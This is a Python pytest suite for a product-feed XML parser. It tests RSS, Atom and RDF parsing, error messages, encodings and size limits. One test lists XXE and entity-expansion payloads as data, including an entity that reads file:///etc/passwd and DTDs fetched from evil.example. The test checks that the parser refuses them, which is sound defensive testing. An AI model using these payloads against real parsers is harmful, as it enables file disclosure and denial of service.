from __future__ import annotations

import gzip
from collections.abc import Callable
from xml.sax.saxutils import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from runner.errors import Complaint, Invalid
from runner.feed.merchant import CHUNK, GOOGLE, read_merchant
from runner.feed.source import CELL_CAP, ROW_CAP, Record, Source, raise_complaint

Feed = Callable[..., Source]

RSS = f'<?xml version="1.0"?>\n<rss version="2.0" xmlns:g="{GOOGLE}">\n<channel><title>Shop</title>\n'
END = "</channel></rss>"
LUMP = f"<a>{'x' * 1000}</a>"


def rows(source: Source) -> list[Record]:
    """The records of an XML feed without mistakes."""
    return list(read_merchant(source.members()[0], raise_complaint))


def item(feed: Feed, inside: str) -> object:
    """The values of a feed of one RSS item with this inside."""
    [(line, values)] = rows(feed("a.xml", f"{RSS}<item>{inside}</item>{END}"))
    assert line == 4
    return values


def fault(source: Source) -> Complaint:
    """What is wrong with an XML feed."""
    with pytest.raises(Invalid) as raised:
        rows(source)
    [complaint] = raised.value.complaints
    return complaint


ATOM = f"""<?xml version="1.0"?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:g="{GOOGLE}">
  <title>Shop</title><link rel="self" href="https://shop.example"/>
  <entry>
    <g:id>1</g:id><title>Mug</title><link href="https://shop.example/1"/><g:price>5 EUR</g:price>
  </entry>
</feed>"""
RDF = f"""<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:g="{GOOGLE}">
<channel rdf:about="https://shop.example"><items><rdf:Seq><rdf:li resource="1"/></rdf:Seq></items></channel>

<item rdf:about="https://shop.example/1"><g:id>1</g:id><title>Mug</title><link>https://shop.example/1</link>
<g:price>5 EUR</g:price></item>
</rdf:RDF>"""
PREFIXED = f"""{RSS}<item>
<g:id>1</g:id><g:title>Mug</g:title><g:link>https://shop.example/1</g:link><g:price>5 EUR</g:price></item>{END}"""
DEFAULT = f"""<rss xmlns="{GOOGLE}"><channel><item><id>1</id><title>Mug</title>
<link>https://shop.example/1</link><price>5 EUR</price></item></channel></rss>"""
BARE = DEFAULT.replace(f' xmlns="{GOOGLE}"', "")


@pytest.mark.parametrize(("text", "line"), [(ATOM, 4), (RDF, 4), (PREFIXED, 4), (BARE, 1), (DEFAULT, 1)])
def test_every_kind_of_product_feed_gives_the_same_row(feed: Feed, text: str, line: int) -> None:
    """RSS, Atom and RDF, with the prefix on every tag, on some or on none, give local names and the item's line."""
    expected = {"id": "1", "title": "Mug", "link": "https://shop.example/1", "price": "5 EUR"}
    for content in (text.encode(), b"\xef\xbb\xbf" + text.encode(), gzip.compress(text.encode())):
        assert rows(feed("a.xml", content)) == [(line, expected)]


@pytest.mark.parametrize(
    ("inside", "values"),
    [
        ("<g:id>007</g:id>", {"id": "007"}),
        ("<g:title>\n  Blue\n  mug </g:title>", {"title": "Blue\n  mug"}),
        ("<title><![CDATA[Salt & <b>pepper</b>]]></title>", {"title": "Salt & <b>pepper</b>"}),
        ("<title>Salt &amp; pepper &#8364;</title>", {"title": "Salt & pepper €"}),
        ("<title>a<!-- note -->b<?pi x?>c</title>", {"title": "abc"}),
        ("<title/><g:id></g:id>", {"title": "", "id": ""}),
        ("<g:a>1</g:a><g:a>2</g:a><g:a>3</g:a>", {"a": ["1", "2", "3"]}),
        ("<g:a>1</g:a><g:b>x</g:b><g:a/>", {"a": ["1", ""], "b": "x"}),
        (
            "<g:shipping>\n<g:country>DE</g:country><g:price>4 EUR</g:price></g:shipping>",
            {"shipping": {"country": "DE", "price": "4 EUR"}},
        ),
        ("<g:s><g:c>DE</g:c></g:s><g:s><g:c>FR</g:c></g:s>", {"s": [{"c": "DE"}, {"c": "FR"}]}),
        ("<g:s><g:c>DE</g:c><g:c>FR</g:c></g:s><g:t>x</g:t>", {"s": {"c": ["DE", "FR"]}, "t": "x"}),
        ("<g:s>text<g:c><g:d>1</g:d></g:c>more</g:s>", {"s": {"c": {"d": "1"}}}),
        ("<title>RSS</title><g:title>Google</g:title>", {"title": "Google"}),
        ("<g:title>Google</g:title><title>RSS</title>", {"title": "Google"}),
        ('<m:title xmlns:m="urn:m">Media</m:title><title>RSS</title>', {"title": "RSS"}),
        ('<title>RSS</title><m:title xmlns:m="urn:m">Media</m:title>', {"title": "RSS"}),
        ('<enclosure url="https://shop.example/1.jpg" type="image/jpeg"/>', {"enclosure": "https://shop.example/1.jpg"}),
        ('<g:price unit="USD">5</g:price>', {"price": "5"}),
        ('<a href="x">text</a><b/>', {"a": "text", "b": ""}),
        ("", {}),
    ],
)
def test_elements_become_values(feed: Feed, inside: str, values: dict[str, object]) -> None:
    """Texts, repeats, groups, namespaces and links become what a template can read."""
    assert item(feed, inside) == values


@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_rows_carry_the_line_of_their_start_tag(feed: Feed, end: str) -> None:
    """Items on one line, over several, and past the end of a chunk are all placed right."""
    many = "".join(f"<item><g:id>{number}</g:id>\n<title>{'x' * 90}</title></item>\n" for number in range(2000))
    assert len(many) > 2 * CHUNK
    text = (RSS + "<item>\n<g:id>a</g:id></item><item><g:id>b</g:id>\n</item>\n" + many + END).replace("\n", end)
    read = rows(feed("a.xml", text))
    assert [line for line, _ in read] == [4, 5, *range(7, 4007, 2)]
    assert read[-1][1]["id"] == "1999"


@pytest.mark.parametrize(
    ("text", "line", "column", "remedy"),
    [
        (f"{RSS}<item>\n<link>https://shop.example/?a=1&b=2</link></item>{END}", 5, 32, "write & as &amp;"),
        (f"{RSS}<item>\n<title>Salt & pepper</title></item>{END}", 5, 13, "write & as &amp;"),
        (f"{RSS}<item><title>a&nbsp;b</title></item>{END}", 4, 15, "XML has no such entity"),
        (f"{RSS}<item><title>a ]]> b</title></item>{END}", 4, 18, "]]> ends a CDATA section"),
        (f"{RSS}<item><title>a < b</title></item>{END}", 4, 17, "write < as &lt;"),
        (f"{RSS}<item><title>a\x0bb</title></item>{END}", 4, 15, "a control character stands here"),
        (f"{RSS}<item><title>a</titel></item>{END}", 4, 17, "an element is closed by another's name"),
        (f"{RSS}<item><title>a</title>", 4, 23, "the file ends too early; fetch it again"),
        (f"{RSS}<item><title>a</tit", 4, 15, "the file ends too early"),
        ("", 1, 1, "the file ends too early; fetch it again"),
        ("<rss><channel><item><g:id>1</g:id></item></channel></rss>", 1, 21, f'xmlns:g="{GOOGLE}"'),
        (f"{RSS}{END}\n<rss/>", 5, 1, "two files in one?"),
    ],
)
def test_what_is_not_well_formed_is_shown_with_its_remedy(feed: Feed, text: str, line: int, column: int, remedy: str) -> None:
    """The complaint has line, column, the source line and what to do."""
    complaint = fault(feed("a.xml", text))
    assert complaint.message.startswith("is not well-formed XML (")
    assert remedy in complaint.message
    assert complaint.place is not None
    assert (complaint.place.line, complaint.place.column) == (line, column)
    assert complaint.place.text.strip() in text
    assert bool(complaint.place.text) == bool(text)


def test_a_long_line_is_shown_around_the_mistake(feed: Feed) -> None:
    """In a minified feed the message quotes what stands near."""
    complaint = fault(feed("a.xml", f"{RSS}<item>{'<a>x</a>' * 100}<link>https://x.example/?a=1&b=2</link></item>{END}"))
    assert ", near '" in complaint.message
    assert "x.example/?a=1&b=2</link>" in complaint.message
    assert complaint.place is not None
    assert complaint.place.text == ""


def test_rows_before_a_mistake_are_given(feed: Feed) -> None:
    """Reading streams: the items before broken XML have arrived when it is found."""
    reader = read_merchant(
        feed("a.xml", f"{RSS}<item><g:id>1</g:id></item><item><g:id>2&</g:id></item>{END}").members()[0], raise_complaint
    )
    assert next(reader) == (4, {"id": "1"})
    with pytest.raises(Invalid):
        next(reader)


@pytest.mark.parametrize(
    "declaration",
    [
        "<!DOCTYPE rss>",
        '<!DOCTYPE rss SYSTEM "https://evil.example/a.dtd">',
        '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.example/p"> %p;]>',
    ],
)
def test_document_types_are_refused(feed: Feed, declaration: str) -> None:
    """No entity can be declared, so none is expanded and no file or address is ever fetched."""
    complaint = fault(
        feed("a.xml", f'<?xml version="1.0"?>\n{declaration}<rss><channel><item><id>&x;&b;</id></item></channel></rss>')
    )
    assert complaint.message.startswith("has a document type declaration (<!DOCTYPE>)")
    assert complaint.place is not None
    assert complaint.place.line == 2


def test_other_xml_is_no_feed(feed: Feed) -> None:
    """A document with another first element is named as such."""
    message = fault(feed("a.xml", "<catalog><product/></catalog>")).message
    assert message == "is no product feed: its first element is <catalog>, not rss, feed (Atom) or rdf:RDF"


@pytest.mark.parametrize(
    ("content", "encoding", "title"),
    [
        (b'<?xml version="1.0" encoding="ISO-8859-1"?>' + "Käse".encode("latin-1"), None, "Käse"),
        (b'<?xml version="1.0" encoding="windows-1251"?>' + "Сыр".encode("cp1251"), None, "Сыр"),
        ("Käse".encode("latin-1"), "latin-1", "Käse"),
        (b'<?xml version="1.0" encoding="utf-8"?>' + "Сыр".encode("cp1251"), "cp1251", "Сыр"),
        (b'<?xml version="1.0" encoding="gbk"?>' + "茶".encode("gbk"), "gbk", "茶"),
    ],
)
def test_the_document_or_the_job_names_the_encoding(feed: Feed, content: bytes, encoding: str | None, title: str) -> None:
    """The document's own declaration counts, unless the job says better."""
    head, mark, text = content.rpartition(b"?>")
    xml = head + mark + b"<rss><channel><item><title>" + text + b"</title></item></channel></rss>"
    assert rows(feed("a.xml", xml, encoding=encoding)) == [(1, {"title": title})]


@pytest.mark.parametrize("encoding", ["klingon", "gbk"])
def test_an_encoding_the_parser_does_not_know_is_named_in_the_job(feed: Feed, encoding: str) -> None:
    """A declared encoding that is none, or has several bytes a character, gives a complaint with the way out."""
    complaint = fault(feed("a.xml", f'<?xml version="1.0" encoding="{encoding}"?><rss/>'))
    assert complaint.message.startswith("declares an encoding the parser does not know (")
    assert complaint.message.endswith("name it in the job instead: `encoding: gbk`")


def test_bytes_of_another_encoding_are_named(feed: Feed) -> None:
    """Latin-1 bytes in a document that is UTF-8 by default are told from a bare ampersand."""
    complaint = fault(feed("a.xml", "<rss><channel><item><title>K\xe4se</title></item></channel></rss>".encode("latin-1")))
    assert (
        "these bytes are not in the encoding the file declares; if it has another, write `encoding: latin-1`" in complaint.message
    )


def test_sizes_and_depth_are_bounded(feed: Feed, blamed: list[Complaint]) -> None:
    """A text over the cell's cap is blamed, an item over the row's cap and endless nesting are refused."""
    long = feed("a.xml", f"{RSS}<item><g:id>1</g:id><t>{'x' * (CELL_CAP + 1)}</t></item>{END}")
    assert len(list(read_merchant(long.members()[0], blamed.append))) == 1
    assert [complaint.message for complaint in blamed] == ["a text in this item has more than 1 MiB"]
    huge = gzip.compress((f"{RSS}<item>" + LUMP * (ROW_CAP // len(LUMP) + 1)).encode())
    assert fault(feed("b.xml", huge)).message == "this item has more than 8 MiB"
    none = gzip.compress((RSS + f"<product>{LUMP}</product>" * (ROW_CAP // len(LUMP) + 1)).encode())
    assert fault(feed("d.xml", none)).message == "8 MiB hold no <item>; is this a product feed?"
    assert fault(feed("c.xml", f"{RSS}<item>{'<a>' * 1000}")).message == "elements are nested deeper than 50"


TEXTS = st.text(st.characters(min_codepoint=33, exclude_categories=["Cs", "Cc", "Cn", "Z"]), min_size=1, max_size=10)


@given(st.lists(st.dictionaries(st.sampled_from(["id", "title", "price", "link"]), TEXTS, min_size=1), max_size=5))
def test_what_is_written_is_read_back(tmp_path_factory: pytest.TempPathFactory, items: list[dict[str, str]]) -> None:
    """Any escaped texts come back as they were, each item on its line."""
    path = tmp_path_factory.getbasetemp() / "property.xml"
    lines = ["".join(f"<g:{name}>{escape(text)}</g:{name}>" for name, text in values.items()) for values in items]
    path.write_text(RSS + "".join(f"<item>{line}</item>\n" for line in lines) + END, encoding="utf-8")
    assert rows(Source((path,))) == list(enumerate(items, 4))
